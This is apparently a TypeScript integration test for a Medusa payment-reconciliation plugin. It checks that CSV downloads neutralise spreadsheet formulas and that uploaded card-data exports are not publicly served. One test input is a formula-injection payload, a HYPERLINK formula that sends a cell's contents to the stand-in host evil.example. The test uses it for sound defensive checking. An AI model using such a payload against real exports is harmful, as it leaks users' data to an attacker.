/**
 * The two files a reconciliation hands over or keeps. The result download writes its dates as ISO
 * instants in UTC and no cell a spreadsheet would run, whatever the export's cells begin with. The
 * uploaded export (card last 4, authorization codes) is stored where Medusa does not serve it: an
 * anonymous GET of /static/<its key> finds nothing, and the read still finds the file.
 */
import fs from "node:fs"
import path from "node:path"
import { parse } from "csv-parse/sync"
import { paylinkSuite } from "../helpers/suite"
import {
  entriesOf,
  guatemalaMinute,
  paidNeverReturned,
  reconcile,
  upload,
} from "../helpers/reconciliation"
import {
  PRIVATE_UPLOADS_DIR,
  servedUploads,
  storedUploads,
} from "../helpers/private-uploads"
import { EXPORT_COLUMNS } from "../../src/sandbox/export-format"

/** This minute in Guatemala (UTC−6) as the export writes it, and the same instant in UTC. */
function exportMinute() {
  const now = new Date(Math.floor(Date.now() / 60_000) * 60_000)
  return { text: guatemalaMinute(now), iso: now.toISOString() }
}

/** One export cell, quoted as the CSV needs (a quote doubled). */
const cell = (value: string) => `"${value.replace(/"/g, '""')}"`

paylinkSuite(
  (ctx) => {
    const { api } = ctx

    it("downloads paid_at as an ISO instant in UTC and neutralises formulas that follow a space or a line break", async () => {
      const paid = await paidNeverReturned(ctx)
      const at = exportMinute()
      const hyperlink = ` =HYPERLINK("http://evil.example/?leak="&A1,"open")`
      const lineBreak = "\n=1+1"
      const rows = [
        [
          String(paid.number),
          paid.checkoutId,
          at.text,
          "Q 100.00",
          "GTQ",
          "Pagado",
          "**** 4242",
          hyperlink,
          "Pago único",
          "Enlace",
        ],
        [
          "999999",
          "chk_elsewhere",
          at.text,
          "Q 12.00",
          "GTQ",
          "Pagado",
          "**** 1111",
          lineBreak,
          "Pago único",
          "Otro canal",
        ],
      ]
      const text =
        [
          EXPORT_COLUMNS.join(";"),
          ...rows.map((r) => r.map(cell).join(";")),
        ].join("\r\n") + "\r\n"
      const { reconciliation: r } = await reconcile(
        ctx,
        Buffer.from(text, "utf8")
      )

      // The reader keeps a quoted cell's leading space and line break: the entries hold them as written.
      const { entries } = await entriesOf(ctx, r.id)
      expect(entries.map((e: any) => e.authorization).sort()).toEqual(
        [lineBreak, hyperlink].sort()
      )
      expect(entries.map((e: any) => e.paid_at)).toEqual([at.iso, at.iso])

      const download = await api.get(
        `/admin/paylink/reconciliations/${r.id}/download`,
        { ...ctx.admin, responseType: "text" }
      )
      const csv: Record<string, string>[] = parse(String(download.data), {
        columns: true,
      })
      expect(csv).toHaveLength(2)
      const byReference = (reference: string) =>
        csv.find((row) => row.reference === reference)!
      // The reference is the checkout id: the suggested mapping matches on it when the export has one.
      expect(byReference(paid.checkoutId)).toMatchObject({
        paid_at: at.iso,
        authorization: `'${hyperlink}`,
        card_last4: "4242",
      })
      expect(byReference("chk_elsewhere")).toMatchObject({
        paid_at: at.iso,
        authorization: `'${lineBreak}`,
        card_last4: "1111",
      })
      for (const row of csv) {
        expect(row.paid_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
        // No cell, once a spreadsheet drops its leading blanks, starts a formula.
        for (const [column, value] of Object.entries(row)) {
          expect({ column, formula: /^\s*[=+\-@]/.test(value) }).toEqual({
            column,
            formula: false,
          })
        }
      }
    })

    it("keeps an uploaded export out of the served static folder: an anonymous GET of its key finds nothing", async () => {
      const file = Buffer.from(
        "No. de enlace;Monto;Fecha de pago;Estado;Autorización\r\n1;Q 10.00;24/11/2026 10:00;Pagado;SECRET-AUTH-77\r\n"
      )
      const res = await upload(ctx, file, {
        gateway: "gatewayA",
        file_name: "transacciones.csv",
      })
      expect(res.status).toBe(200)
      const key: string = res.data.upload.file_key
      expect(key).toMatch(/^private-.*paylink-reconciliation-gatewayA-/)

      const anonymous = await fetch(
        `${api.defaults.baseURL}/static/${encodeURIComponent(key)}`
      )
      const body = await anonymous.text()
      expect({
        status: anonymous.status,
        leaked: body.includes("SECRET-AUTH-77"),
      }).toEqual({ status: 404, leaked: false })

      // Stored in the app's private folder, byte for byte, and nowhere under static/.
      expect(storedUploads()).toContain(key)
      expect(
        fs.readFileSync(path.join(PRIVATE_UPLOADS_DIR, key)).equals(file)
      ).toBe(true)
      expect(servedUploads()).not.toContain(key)

      // The read finds the file where it is kept.
      const { reconciliation } = await reconcile(ctx, file)
      expect(reconciliation).toMatchObject({ status: "ready", rows_read: 1 })
    })
  },
  { timeoutMs: 300_000 }
)
